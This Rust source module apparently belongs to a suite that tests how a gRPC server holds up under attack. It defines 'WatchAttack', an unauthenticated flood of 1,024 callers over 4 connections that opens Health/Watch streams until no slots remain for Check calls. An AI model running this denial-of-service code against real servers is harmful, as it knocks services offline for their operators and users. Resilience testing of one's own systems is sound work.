//! Health watches without a token.

use std::time::Duration;

use anyhow::Result;
use futures_util::future::LocalBoxFuture;
use tonic_health::pb::HealthCheckRequest;

use crate::attack::{Attack, AttackTarget};
use crate::flood::{CallerFlood, WINDOW_SMALL};
use crate::wire;

/// As many `Watch` streams as the server has places for public calls, so that `Check` finds none.
pub(crate) struct WatchAttack;

impl Attack for WatchAttack {
    fn name(&self) -> &'static str {
        "watch"
    }

    fn has_token(&self) -> bool {
        false
    }

    fn run<'t>(&'t self, target: &'t AttackTarget) -> LocalBoxFuture<'t, Result<()>> {
        let flood = CallerFlood {
            connections: 4,
            callers: 1_024,
            window: WINDOW_SMALL,
            pause: Duration::from_secs(1),
        };
        Box::pin(flood.run(target, async |mut sender, _caller| {
            let head = wire::head(target, "/grpc.health.v1.Health/Watch", None)?;
            let request = wire::frame(&HealthCheckRequest::default());
            wire::call(&mut sender, head, request).await?;
            Ok(())
        }))
    }
}
